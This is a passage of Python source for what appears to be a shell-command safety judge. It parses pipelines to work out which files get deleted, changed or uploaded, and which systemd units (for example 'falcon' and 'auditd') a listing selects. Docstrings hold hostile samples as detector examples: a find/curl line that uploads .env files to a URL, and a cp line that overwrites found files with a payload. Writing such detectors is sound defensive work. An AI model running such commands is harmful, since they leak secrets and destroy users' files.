    if prog in ("awk", "gawk", "mawk", "nawk"):
        code = next((a for a in args if not a.startswith("-")), "")
        return re.fullmatch(r"\s*(?:1|\{\s*print(?:\s+\$\w+|\s+\$NF)?\s*;?\s*\})\s*", code) is not None
    if prog == "cut":
        return not any(not a.startswith("-") and not re.fullmatch(r"[\d,-]+|\s|\t", a) for a in args)
    if prog == "tee":
        return True
    if prog in ("sed", "gsed"):
        return [a for a in args if not a.startswith("-")] == ["p"] and "-n" in args
    if prog == "tr":
        return True
    return False


_HEREDOC_SUBST = lazyre.compile(r"\$\(((?:[^()]|\([^()]*\))+)\)")


def _substitutions(text: str, limit: int = 8) -> "list[str]":
    """The outermost `$(…)` of a text bash expands (a `<<-` body), each with its own nested ones, by
    matching parentheses outside single quotes, and those the one-level pattern finds (a `case`
    pattern's `)` ends a scan early). Linear: the scan goes on after each one found."""
    out: list[str] = []
    i, n = 0, len(text)
    while len(out) < limit:
        i = text.find("$(", i)
        if i < 0:
            break
        if text.startswith("$((", i):
            i += 3  # arithmetic
            continue
        level, quote, j = 1, False, i + 2
        while j < n and level:
            ch = text[j]
            if ch == "'" and not (j and text[j - 1] == "\\"):
                quote = not quote
            elif not quote and ch == "(":
                level += 1
            elif not quote and ch == ")":
                level -= 1
            j += 1
        if level:
            break
        out.append(text[i + 2:j - 1])
        i = j
    # (and what the one-level pattern finds: a `case` pattern's `)` ends a scan early)
    for m in itertools.islice(_HEREDOC_SUBST.finditer(text), limit):
        if m.group(1) not in out and len(out) < 2 * limit:
            out.append(m.group(1))
    return out
_UNIT_LISTINGS = ("list-units", "list-unit-files")


def _listed_units(chain: "Sequence[_Draft]") -> "list[str] | None":
    """The units a `systemctl list-units` listing hands on, as unit globs, when the names pass only
    through filters on their way (`chain`: the commands in order, the listing first): its own
    patterns (`list-units 'falcon*'`), narrowed by a grep (`grep -i falcon` → `*falcon*`, `grep -E
    'falcon|auditd'` → both), or every unit (`*`). None: no such listing."""
    pats: "list[str] | None" = None
    for d in reversed(chain[-8:]):
        argv = d.argv
        if not argv:
            return None
        if argv[0] == "systemctl":
            sub = next((a for a in argv[1:] if a in _UNIT_LISTINGS), None)
            if sub is None or any(a == "--failed" or a.startswith("--state") for a in argv[1:]):
                return None  # (failed or inactive units: not the ones running)
            own = [a for a in argv[argv.index(sub) + 1:] if not a.startswith("-")]
            return (pats if pats is not None else own or ["*"])[:8]
        grep = _grep_selects(argv)
        if grep is not None:
            if grep and pats is None:
                pos = [a for a in argv[1:] if not a.startswith("-")]
                words = [re.sub(r"[^\w.@-]", "", w) for w in re.split(r"\\?\|", pos[0])] if pos else []
                pats = [f"*{w}*" for w in words if w] or ["*"]
            continue
        if argv[0] in _PASSTHROUGH or argv[0] in ("head", "tail") or _keeps_lines(argv) \
                or argv[0] in ("awk", "gawk", "mawk", "cut", "sed", "tr"):
            continue  # (a field cut out: the unit's name)
        return None
    return None


def _grep_selects(argv: "list[str]") -> "list[str] | None":
    """A grep stage as the find test it amounts to: `grep -v X` keeps nearly every line (no test),
    `grep X` keeps the paths holding X (`-path '*X*'`, or `-path '*'` for a pattern that is no plain
    text); None for what is no line filter (a file operand: it reads that file, not its stdin)."""
    if not argv or argv[0] not in ("grep", "egrep", "fgrep", "rg"):
        return None
    opts = [a for a in argv[1:] if a.startswith("-")]
    pos = [a for a in argv[1:] if not a.startswith("-")]
    if len(pos) > 1 or any(a in ("-f", "--file") for a in opts):
        return None
    if any(a == "-v" or a == "--invert-match" or (a.startswith("-") and not a.startswith("--") and "v" in a)
           for a in opts):
        return []
    if not pos and not any(a in ("-e", "--regexp") or a.startswith(("-e", "--regexp=")) for a in opts):
        return None
    text = re.sub(r"[^\w.-]", "", pos[0]) if pos else ""  # (`'\.pyc$'` → `*.pyc*`: some files, not all)
    return ["-path", f"*{text}*" if text else "*"]


def _as_find(argv: "list[str]") -> "list[str] | None":
    """A lister's argv as the find command that lists the same files: find itself, fd (as find), `rg
    --files` and `git ls-files` without a pathspec or filter (every file: `find . -type f`, near
    enough); None otherwise."""
    if argv[:1] == ["find"]:
        return list(argv)
    if argv[:1] in (["fd"], ["fdfind"]):
        return shlex.split(_fd_as_find(list(argv[1:]) + ["-X", "true"]))[:-4]  # (its -exec tail dropped)
    if argv[:1] == ["rg"] and "--files" in argv and not any(not a.startswith("-") for a in argv[1:]):
        return ["find", ".", "-type", "f"]
    if argv[:2] == ["git", "ls-files"] and all(a in ("-z", "--cached", "-c", "--full-name") for a in argv[2:]):
        return ["find", ".", "-type", "f"]
    if argv[:2] == ["git", "ls-files"] and all(a.startswith("-") for a in argv[2:]):
        # tracked files with changes (-m), untracked ones (-o): nearly every file, some of them work
        return ["find", ".", "-type", "f"]
    if argv[:2] == ["git", "ls-tree"] and "--name-only" in argv and any(a in ("-r", "--full-tree") for a in argv):
        return ["find", ".", "-type", "f"]
    if argv[:2] == ["git", "status"] and any(a in ("--porcelain", "-s", "--short") or a.startswith("--porcelain=")
                                             for a in argv[2:]):
        # the changed and untracked files (a field cut out of each line: awk/cut stages pass them)
        return ["find", ".", "-type", "f"]
    if argv[:2] == ["git", "diff"] and any(a in ("--name-only", "--name-status") for a in argv[2:]) and \
            not any(a == "--" or not a.startswith("-") and not a.startswith(("HEAD", "@")) for a in argv[2:]):
        # the files with uncommitted changes: deleting them loses that work (nearly: every file)
        return ["find", ".", "-type", "f"]
    return None


def _find_printing_removed(args: "list[str]") -> "list[str]":
    """find's arguments without the actions that print what it found (`-print0`, `-printf FMT`,
    `-ls`): piped to `xargs rm`, the printed paths are what is deleted, as by `-exec rm`."""
    out: list[str] = []
    skip = False
    for a in args:
        if skip:
            skip = False
        elif a in ("-print", "-print0", "-ls"):
            continue
        elif a in ("-printf", "-fprint", "-fprint0", "-fls"):
            skip = True
        else:
            out.append(a)
    return out


def _wide_source(a: str) -> bool:
    a = a.rstrip("/") or "/"
    return a in (".", "..", "*") or a.startswith(("~", "/", "$", "../")) or any(
        seg.startswith(".") and seg not in (".", "..") for seg in a.split("/"))


def _as_stdin(arg: str, path: str) -> str:
    """An uploader's argument naming `path`, naming stdin instead (`@/tmp/x` → `@-`, `-T /tmp/x` → `-`)."""
    if arg == path:
        return "-"
    for mark in ("@", "<", "="):
        if arg.endswith(mark + path):
            return arg[: len(arg) - len(path)] + "-"
    return arg


def _sends_its_operands(prog: str, args: "list[str]") -> bool:
    """`find . -name .env -exec curl -T {} URL \\;`: the files find hands it leave the machine."""
    return any("{}" in u for u in uploaded_files(prog, [a for a in args]))


def _changes_its_operands(prog: str, args: "list[str]") -> bool:
    if prog in _OPERAND_CHANGERS:
        return True
    if prog in SHELLS and _shell_c_arg(list(args)) is not None:
        return True  # `sh -c '… "$1"' _ {}`: the script gets the file; judged with it bound
    if prog in _COPIERS and "-t" not in args and not any(a.startswith("--target-directory") for a in args):
        # `-exec cp payload {} \;`: what find hands over is the destination, written over
        pos = _positionals(list(args))
        return len(pos) >= 2 and "{}" in pos[-1]
    if prog in ("sed", "gsed", "perl", "ruby"):  # -i / --in-place / -pi -e …
        return any(a == "--in-place" or a.startswith("--in-place=") or
                   (a.startswith("-") and not a.startswith("--") and "i" in a[1:]) for a in args)
    return False


# ---- the last few lines parsed in full, shared by every thread ----------------------------------------
# The judge parses a line for its targets and then for its rules (a worker thread); the daemon's
# components then look at the same line on the event loop (policy effects, the file monitor's
# predicted writes). A ParsedShell is immutable, so one parse serves them all.
RECENT_MAX = 8
RECENT_TEXT_MAX = 256 * 1024  # longer lines are parsed each time rather than held
_recent: list[tuple[str, ParsedShell, int]] = []
_recent_lock = threading.Lock()


def recent(text: str) -> "tuple[ParsedShell, int] | None":
    """A full (never budget-cut) parse of `text` made lately by any thread, with the work units it cost."""
    with _recent_lock:
        for t, parsed, units in _recent:
            if t is text or t == text:
                return parsed, units
    return None


def remember(text: str, parsed: ParsedShell, units: int) -> None:
    """Keep a parse that ran to its end (no budget stopped it): it is what parse(text) gives."""
    if len(text) > RECENT_TEXT_MAX:
        return
    with _recent_lock:
        _recent[:] = [(text, parsed, units)] + [x for x in _recent if x[0] is not text and x[0] != text][:RECENT_MAX - 1]


def forget_recent() -> None:
    """Drop every remembered parse (what the shell layer knows about this installation changed)."""
    with _recent_lock:
        _recent.clear()


def parse_remembered(text: str) -> ParsedShell:
    """parse(text) with no budget, through the shared memory of recent full parses."""
    got = recent(text)
    if got is not None:
        return got[0]
    spent = [0]

    def count(n: int) -> bool:
        spent[0] += n
        return True

    parsed = parse(text, count)
    remember(text, parsed, spent[0])
    return parsed

